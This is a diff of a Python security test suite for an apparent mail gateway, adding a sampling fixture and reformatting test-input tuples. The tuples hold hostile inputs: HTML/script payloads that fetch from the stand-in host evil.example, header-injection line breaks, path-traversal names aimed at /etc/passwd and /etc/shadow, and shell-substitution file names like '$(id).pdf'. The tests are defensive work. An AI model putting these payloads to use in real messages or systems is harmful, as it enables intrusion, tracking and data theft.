@@ -16,7 +16,7 @@ import pytest
 from mailgate.store.tables import Mail
 from tests.rig.hand import DeskInHand
 from tests.rig.house import ANNA, IVAN, Letter
-from tests.security.conftest import Figures
+from tests.security.conftest import Figures, Some
 from tests.security.kit import mail, notices, passed, pour, shown
 
 BREAKS = ("\r", "\n", "\r\n", "\x00", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1e")
@@ -29,7 +29,7 @@ def encoded(text: str) -> str:
 
 def header_names(letters: list[Letter]) -> set[str]:
     """Names of all headers, of the letters and of every part in them; as the bytes have them, too."""
-    found = {name.lower() for letter in letters for part in letter.message.walk() for name in part.keys()}
+    found = {name.lower() for letter in letters for part in letter.message.walk() for name in part}
     heads = [letter.raw.partition(b"\r\n\r\n")[0] for letter in letters]
     lines = itertools.chain.from_iterable(head.replace(b"\r\n", b"\n").split(b"\n") for head in heads)
     return found | {line.partition(b":")[0].decode("latin-1").lower() for line in lines if line[:1].strip()}
@@ -56,13 +56,13 @@ def hostile(words: str) -> list[bytes]:
     ]
 
 
-def test_s11_no_field_begins_a_header(hand: DeskInHand, figures: Figures) -> None:
+def test_s11_no_field_begins_a_header(hand: DeskInHand, some: Some, figures: Figures) -> None:
     for raw in hostile("plain"):
         hand.receive(raw)
     usual = header_names(hand.letters)
     sent = 0
 
-    for line_end in BREAKS:
+    for line_end in some(BREAKS):
         hand.now = hand.now.replace(day=hand.now.day % 28 + 1)  # a stranger is answered once a day
         sent += len(pour(hand, hostile(f"x{line_end}{INJECTED}{line_end}{line_end}y")))
         hand.send()
@@ -85,9 +85,9 @@ def test_s11_no_field_begins_a_header(hand: DeskInHand, figures: Figures) -> Non
 
 
 IDENTIFIERS = (
-    "A" * 68 + "@alfa.example", "AM0PR08MB3210" + "E" * 60 + "@AM0PR08MB3210.eurprd08.prod.outlook.com", "b" * 240 + "@alfa.example",
-    "c" * 380 + "@alfa.example", "CAF=1x+Q2_b7k$%&'*!#@mail.alfa.example", "20261123.a/b{c}|d~e^f`@alfa.example", "no-at-sign",
-    '"quoted..id"@alfa.example', "x@[192.0.2.1]",
+    "A" * 68 + "@alfa.example", "AM0PR08MB3210" + "E" * 60 + "@AM0PR08MB3210.eurprd08.prod.outlook.com",
+    "b" * 240 + "@alfa.example", "c" * 380 + "@alfa.example", "CAF=1x+Q2_b7k$%&'*!#@mail.alfa.example",
+    "20261123.a/b{c}|d~e^f`@alfa.example", "no-at-sign", '"quoted..id"@alfa.example', "x@[192.0.2.1]",
 )  # fmt: skip
 
 
@@ -130,9 +130,9 @@ FORMULAS = (
 )
 
 
-def test_s13_formulas_in_any_field_stay_words(hand: DeskInHand, figures: Figures) -> None:
+def test_s13_formulas_in_any_field_stay_words(hand: DeskInHand, some: Some, figures: Figures) -> None:
     sent = 0
-    for formula in FORMULAS:
+    for formula in some(FORMULAS):
         sent += len(pour(hand, hostile(formula)))
         hand.send()
         hand.answer(hand.last(ANNA, "staff_new"), f"Ответ {formula}")
@@ -146,13 +146,17 @@ def test_s13_formulas_in_any_field_stay_words(hand: DeskInHand, figures: Figures
 
 
 ACTIVE = (
-    "<script>fetch('http://evil.example/x')</script>", "<img src=http://evil.example/x onerror=alert(1)>", "<svg onload=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>", "<style>@import url(http://evil.example/x)</style>", "<iframe src=//evil.example></iframe>",
-    "<link rel=stylesheet href=http://evil.example/x>", "<body background=http://evil.example/x>", "<object data=http://evil.example>",
-    "<form action=http://evil.example><input></form>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<div style=\"background:url('http://evil.example/x')\">x</div>", "<base href=http://evil.example>", "<video poster=//evil.example/x>",
-    "<math><mtext><script>alert(1)</script></mtext></math>", "<img src='cid:x' srcset='http://evil.example/x 2x'>",
-    "<table background='http://evil.example/x'><tr><td>x</table>", "<embed src=//evil.example>", "<a href='data:text/html,x'>x</a>",
+    "<script>fetch('http://evil.example/x')</script>", "<img src=http://evil.example/x onerror=alert(1)>",
+    "<svg onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
+    "<style>@import url(http://evil.example/x)</style>", "<iframe src=//evil.example></iframe>",
+    "<link rel=stylesheet href=http://evil.example/x>", "<body background=http://evil.example/x>",
+    "<object data=http://evil.example>", "<form action=http://evil.example><input></form>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<div style=\"background:url('http://evil.example/x')\">x</div>", "<base href=http://evil.example>",
+    "<video poster=//evil.example/x>", "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<img src='cid:x' srcset='http://evil.example/x 2x'>",
+    "<table background='http://evil.example/x'><tr><td>x</table>", "<embed src=//evil.example>",
+    "<a href='data:text/html,x'>x</a>",
 )  # fmt: skip
 
 
@@ -217,9 +221,10 @@ def test_s14_nothing_active_is_passed_on_and_nothing_fetched(
 
 
 FILE_NAMES = (
-    "../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "C:\\Windows\\win.ini", "a/../../b", "....//....//x", "%2e%2e%2fx",
-    "invoice\u202efdp.exe", "a\u200bb\u200d.pdf", "\ufeffx.pdf", "x" * 300 + ".pdf", "x\x00.pdf", "x\r\nBcc: y@z.pdf", "con", ".", "..",
-    "", " ", "~root", "-rf", "`id`.pdf", "$(id).pdf", "a;b|c&d.pdf", "\u2066pdf.exe\u2069", "🙂.pdf", "экран.png", "php://filter", "|id",
+    "../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "C:\\Windows\\win.ini", "a/../../b", "....//....//x",
+    "%2e%2e%2fx", "invoice\u202efdp.exe", "a\u200bb\u200d.pdf", "\ufeffx.pdf", "x" * 300 + ".pdf", "x\x00.pdf",
+    "x\r\nBcc: y@z.pdf", "con", ".", "..", "", " ", "~root", "-rf", "`id`.pdf", "$(id).pdf", "a;b|c&d.pdf",
+    "\u2066pdf.exe\u2069", "🙂.pdf", "экран.png", "php://filter", "|id",
 )  # fmt: skip
 
 
